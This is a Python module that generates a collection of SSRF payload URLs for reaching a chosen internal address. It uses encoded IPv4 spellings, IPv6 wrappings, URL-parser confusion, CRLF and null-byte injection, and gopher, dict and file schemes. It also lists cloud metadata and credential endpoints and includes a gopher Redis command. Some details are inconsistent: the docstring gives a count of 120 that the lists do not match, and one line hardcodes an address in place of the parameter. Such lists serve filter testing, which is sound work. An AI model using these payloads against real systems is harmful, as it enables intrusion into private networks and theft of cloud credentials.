"""120 URLs that lead into a private network: spellings, IPv6 wrappings, parser tricks, schemes, internal services."""

from __future__ import annotations

from collections.abc import Iterator

OUTSIDE = "127.0.0.9"  # an allowed IP address, where a careless parser looks


def payloads(ip: str, port: int) -> list[str]:
    """Each leads to ip:port for some parser, or to another private host. `ip` is a dotted IPv4 number."""
    urls = [*_spelt(ip, port), *_wrapped(ip, port), *_tricks(ip, port), *_schemes(ip, port), *INSIDES]
    assert len(urls) == len(set(urls))
    return urls


def _spelt(ip: str, port: int) -> Iterator[str]:
    """Spellings of one IPv4 number that inet_aton, browsers and IDNA accept."""
    parts = [int(part) for part in ip.split(".")]
    a, b, c, d = parts
    number = (a << 24) + (b << 16) + (c << 8) + d
    low16, low24 = (c << 8) + d, (b << 16) + (c << 8) + d
    wide = str.maketrans("0123456789.", "０１２３４５６７８９．")
    circled = str.maketrans("123456789", "①②③④⑤⑥⑦⑧⑨")
    yield from (
        f"http://{host}:{port}/"
        for host in (
            ip,
            f"{ip}.",
            str(number),
            hex(number),
            hex(number).upper().replace("X", "x"),
            f"0{number:o}",
            f"00000{number:o}",
            ".".join(f"{part:#x}" for part in parts),
            ".".join(f"0{part:o}" for part in parts),
            ".".join(f"0000{part:o}" for part in parts),
            f"{a:#x}.{b}.0{c:o}.{d}",
            f"{a}.{low24}",
            f"{a}.{b}.{low16}",
            f"{a:#x}.{low24:#x}",
            f"0{a:o}.{low24}",
            f"{a}.{b}.{low16:#x}",
            ip.translate(wide),
            ip.translate(circled),
            ip.replace(".", "。"),
            ip.replace(".", "｡"),
            ip.replace(".", "%2e"),
            "".join(f"%{ord(char):02x}" for char in ip),
            str(number).translate(wide),
            f"{number + (1 << 32)}",
        )
    )


def _wrapped(ip: str, port: int) -> Iterator[str]:
    """IPv4 inside IPv6."""
    parts = [int(part) for part in ip.split(".")]
    high, low = (parts[0] << 8) + parts[1], (parts[2] << 8) + parts[3]
    yield from (
        f"http://[{host}]:{port}/"
        for host in (
            f"::ffff:{ip}",
            f"::ffff:{high:x}:{low:x}",
            f"0:0:0:0:0:ffff:{high:04X}:{low:04X}",
            f"::{ip}",
            f"::{high:x}:{low:x}",
            f"64:ff9b::{ip}",
            f"64:ff9b::{high:x}:{low:x}",
            f"64:ff9b:1::{ip}",
            f"2002:{high:x}:{low:x}::",
            f"2001:0:{high:x}:{low:x}::",
            f"2001::{high ^ 0xFFFF:x}:{low ^ 0xFFFF:x}",
            f"fe80::5efe:{ip}",
            f"::ffff:0:{ip}",
        )
    )


def _tricks(ip: str, port: int) -> Iterator[str]:
    """Where two parsers see two hosts."""
    there = f"{ip}:{port}"
    yield from (
        f"http://{OUTSIDE}@{there}/",
        f"http://{OUTSIDE}:80@{there}/",
        f"http://user:pass@{there}/",
        f"http://{OUTSIDE}%40{there}/",
        f"http://{there}#@{OUTSIDE}/",
        f"http://{there}?@{OUTSIDE}/",
        f"http://{there}\\@{OUTSIDE}/",
        f"http://{OUTSIDE}\\@{there}/",
        f"http://{OUTSIDE}&@{there}#@{OUTSIDE}/",
        f"http:\\\\{there}\\",
        f"http:/{there}/",
        f"http:{there}/",
        f"http:///{there}/",
        f"http:////{there}/",
        f"//{there}/",
        f"///{there}/",
        f"\\\\{there}\\",
        f"/\\{there}/",
        f"HTTP://{there}/",
        f"ht\ntp://{there}/",
        f"http://127\t.66.6.6:{port}/",
        f"http://{ip[:3]}\r\n{ip[3:]}:{port}/",
        f"  http://{there}/  ",
        f"\x00http://{there}/",
        f"http://{there}\x00.example.org/",
        f"http://{ip}%00.example.org:{port}/",
        f"http://{ip}%0d%0aHost:%20x:{port}/",
        f"http://{there}/%0d%0aSET%20x%201%0d%0a",
        f"http://{ip}:0{port}/",
        f"http://{ip}:{port}:80/",
        f"http://[{ip}]:{port}/",
        f"http://{ip}\u00ad:{port}/",
        f"http://\u200b{there}/",
        f"http://{there}./",
        f"javascript:location='http://{there}/'",
        f"data:text/html,<meta http-equiv=refresh content='0;url=http://{there}/'>",
        f"view-source:http://{there}/",
        f"jar:http://{there}!/",
        f"url:http://{there}/",
        f"blob:http://{there}/x",
    )


def _schemes(ip: str, port: int) -> Iterator[str]:
    yield from (f"{scheme}://{ip}:{port}/" for scheme in ("gopher", "dict", "ftp", "file", "ldap", "tftp", "sftp", "ws", "redis", "https"))
    yield from ("file:///etc/passwd", "file://localhost/etc/passwd", "netdoc:///etc/passwd", f"gopher://{ip}:{port}/_SET%20x%201")


INSIDES = (
    *("http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/", "http://100.100.100.200/latest/meta-data/"),
    *("http://10.0.0.1/", "http://172.16.0.1/", "http://192.168.0.1/", "http://100.64.0.1/", "http://198.18.0.1/", "http://192.0.0.192/"),
    *("http://0.0.0.1/", "http://224.0.0.1/", "http://255.255.255.255/", "http://240.0.0.1/", "http://[::]/", "http://[fe80::1]/"),
    *("http://[fc00::1]/", "http://[fec0::1]/", "http://[ff02::1]/", "http://2852039166/latest/meta-data/", "http://[::1]:6379/"),
    *("http://0/", "http://0.0.0.0/", "http://127.127.127.127/", "http://[::ffff:10.0.0.1]/", "http://[::ffff:169.254.169.254]/"),
    *("http://[64:ff9b::a9fe:a9fe]/", "http://168.63.129.16/machine/", "http://169.254.170.2/v2/credentials/", "http://203.0.113.1:22/"),
    *("http://192.88.99.1/", "http://[2002:a9fe:a9fe::]/", "http://[100::1]/", "http://[5f00::1]/", "http://[2001:db8::1]/"),
)
